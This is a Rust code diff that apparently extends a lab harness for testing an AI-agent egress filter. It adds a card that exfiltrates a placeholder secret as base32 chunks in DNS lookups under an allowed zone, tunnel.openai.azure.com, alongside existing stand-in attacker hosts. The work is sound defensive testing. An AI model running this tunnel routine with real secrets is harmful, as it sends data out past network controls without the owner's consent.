@@ -43,6 +43,10 @@ pub enum Probe {
     /// with curl to that address naming the second (SNI): another tenant
     /// of a shared front end.
     SharedAddress(&'static str, &'static str),
+    /// Lookups through the approved resolver of that many names under the
+    /// zone, each a base32 chunk of data (a DNS tunnel through a zone the
+    /// pack allows); delivered if the last one was answered.
+    ZoneTunnel(&'static str, usize),
 }
 
 /// What a card expects in one mode: whether the traffic got through, and
@@ -156,6 +160,16 @@ pub const CARDS: &[Card] = &[
         enforce: ex(false, "refused"),
     },
     Card {
+        id: "llm02-zone-tunnel",
+        owasp: Some("LLM02 Sensitive Information Disclosure"),
+        title: "DNS tunnel through a zone the pack allows",
+        attack: "secrets base32-encoded into 12 lookups under tunnel.openai.azure.com, which **.openai.azure.com allows",
+        probe: Probe::ZoneTunnel("tunnel.openai.azure.com", 12),
+        rule: "dns.tunnel_guard",
+        monitor: ex(true, "would_refuse"),
+        enforce: ex(false, "refused"),
+    },
+    Card {
         id: "llm05-mcp",
         owasp: Some("LLM05 Supply Chain"),
         title: "pull from a compromised MCP source",
@@ -200,7 +214,10 @@ fn zone() -> Zone {
             host("api.shadow-llm.example", "203.0.113.77"),
         ],
         cnames: vec![],
-        wildcards: vec![("t.attacker.example".into(), "203.0.113.99".parse().expect("lab address"))],
+        wildcards: vec![
+            ("t.attacker.example".into(), "203.0.113.99".parse().expect("lab address")),
+            ("tunnel.openai.azure.com".into(), "203.0.113.99".parse().expect("lab address")),
+        ],
         ttl: 300,
     }
 }
@@ -291,9 +308,16 @@ fn first_a(msg: &[u8]) -> Option<IpAddr> {
     None
 }
 
-/// The verdict and counter of a DNS-filter card, from the counters' moves.
+/// The verdict and counter of a DNS-filter or tunnel-guard card, from the
+/// counters' moves.
 fn dns_filter_verdict(before: &str, after: &str) -> Option<(String, (String, u64))> {
-    for (event, verdict) in [("query_refused", "refused"), ("query_would_refuse", "would_refuse")] {
+    let events = [
+        ("tunnel_refused", "refused"),
+        ("tunnel_suspected", "would_refuse"),
+        ("query_refused", "refused"),
+        ("query_would_refuse", "would_refuse"),
+    ];
+    for (event, verdict) in events {
         let series = format!("egress_dns_events_total{{event=\"{event}\"}}");
         let moved = metric(after, &series) - metric(before, &series);
         if moved > 0 {
@@ -320,6 +344,42 @@ fn resolve_then_https(lab: &Lab, name: &str, sni: &str) -> io::Result<(bool, Str
     };
     let ok = curl_ok(lab, &["--resolve", &tls::resolve(sni, addr), &format!("https://{sni}/")])?;
     Ok((ok, format!("{name} → tcp {addr}:443, TLS (SNI {sni})"), Some(addr)))
+}
+
+/// Sends `lookups` lookups of base32 chunks under `zone` through the
+/// approved resolver, as a DNS tunnel does: whether the last was answered.
+fn zone_tunnel(lab: &Lab, zone: &str, lookups: usize) -> io::Result<bool> {
+    let resolver = SocketAddr::new(RESOLVER.parse().map_err(io::Error::other)?, 53);
+    let secret = b"AKIAEXAMPLESECRETKEY/wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY-0123456789-the-whole-conversation";
+    let mut answered = false;
+    for i in 0..lookups {
+        let bytes: Vec<u8> = secret.iter().cycle().skip(i * 15).take(15).copied().collect();
+        let chunk = base32(&bytes);
+        answered = lookup(lab, resolver, &format!("{chunk}.{i}.{zone}"))?.is_some();
+    }
+    Ok(answered)
+}
+
+/// RFC 4648 base32, lowercase, without padding (as DNS tunnels encode).
+fn base32(bytes: &[u8]) -> String {
+    let (mut out, mut acc, mut bits) = (String::new(), 0u32, 0);
+    for b in bytes {
+        acc = acc << 8 | u32::from(*b);
+        bits += 8;
+        while bits >= 5 {
+            bits -= 5;
+            out.push(char::from(b"abcdefghijklmnopqrstuvwxyz234567"[(acc >> bits & 31) as usize]));
+        }
+    }
+    if bits > 0 {
+        out.push(char::from(b"abcdefghijklmnopqrstuvwxyz234567"[(acc << (5 - bits) & 31) as usize]));
+    }
+    out
+}
+
+/// The tunnel's traffic in words.
+fn tunnel_traffic(zone: &str, lookups: usize) -> String {
+    format!("{lookups} lookups of base32 chunks under {zone} via {RESOLVER}")
 }
 
 /// The flow whose record tells what became of a probe: its address, port,
@@ -356,6 +416,7 @@ fn play(lab: &Lab, agent: &AgentProcess, card: Card, mode: &'static str) -> io::
             let got = lookup(lab, SocketAddr::new(RESOLVER.parse().map_err(io::Error::other)?, 53), name)?;
             (got.is_some(), format!("lookup {name} via {RESOLVER}"), None)
         }
+        Probe::ZoneTunnel(zone, lookups) => (zone_tunnel(lab, zone, lookups)?, tunnel_traffic(zone, lookups), None),
     };
     let mut record = None;
     let mut verdict = String::from("no report");
@@ -378,6 +439,8 @@ fn play(lab: &Lab, agent: &AgentProcess, card: Card, mode: &'static str) -> io::
             }
         }
     }
+    let tunnel_record =
+        if matches!(card.probe, Probe::ZoneTunnel(..)) { tunnel_record(agent, seen, &me) } else { None };
     // Wait for the counters to show it (scrapes are exact, the flow log is
     // asynchronous).
     let deadline = Instant::now() + Duration::from_secs(2);
@@ -401,7 +464,25 @@ fn play(lab: &Lab, agent: &AgentProcess, card: Card, mode: &'static str) -> io::
         }
         std::thread::sleep(Duration::from_millis(50));
     }
-    Ok(Outcome { card, mode, delivered, verdict, traffic, record, counter })
+    Ok(Outcome { card, mode, delivered, verdict, traffic, record: record.or(tunnel_record), counter })
+}
+
+/// The tunnel guard's record of `workload` among those written after the
+/// first `seen`, waiting up to 2 s (one per workload, zone and window: the
+/// enforce round, in the monitor round's window, has none).
+fn tunnel_record(agent: &AgentProcess, seen: usize, workload: &str) -> Option<serde_json::Value> {
+    let deadline = Instant::now() + Duration::from_secs(2);
+    loop {
+        let found = agent
+            .flow_records()
+            .into_iter()
+            .skip(seen)
+            .find(|v| v["type"] == "dns_tunnel_suspected" && v["workload"] == workload);
+        if found.is_some() || Instant::now() > deadline {
+            return found;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
 }
 
 /// Copies the pack directory to a scratch place the run may edit.
@@ -416,13 +497,15 @@ fn copy_pack(from: &Path, to: &Path) -> io::Result<()> {
     Ok(())
 }
 
-/// Promotes the pack to enforce: `mode` and `dns.query_filter`, in its
-/// settings file, written whole (the agent's watcher picks it up).
+/// Promotes the pack to enforce: `mode`, `dns.query_filter` and
+/// `dns.tunnel_guard`, in its settings file, written whole (the agent's
+/// watcher picks it up).
 fn promote(dir: &Path) -> io::Result<()> {
     let path = dir.join("00-settings.yaml");
     let text = std::fs::read_to_string(&path)?
         .replace("\nmode: monitor", "\nmode: enforce")
-        .replace("query_filter: monitor", "query_filter: enforce");
+        .replace("query_filter: monitor", "query_filter: enforce")
+        .replace("tunnel_guard: monitor", "tunnel_guard: enforce");
     let tmp = dir.join(".00-settings.yaml.tmp");
     std::fs::write(&tmp, text)?;
     std::fs::rename(tmp, path)
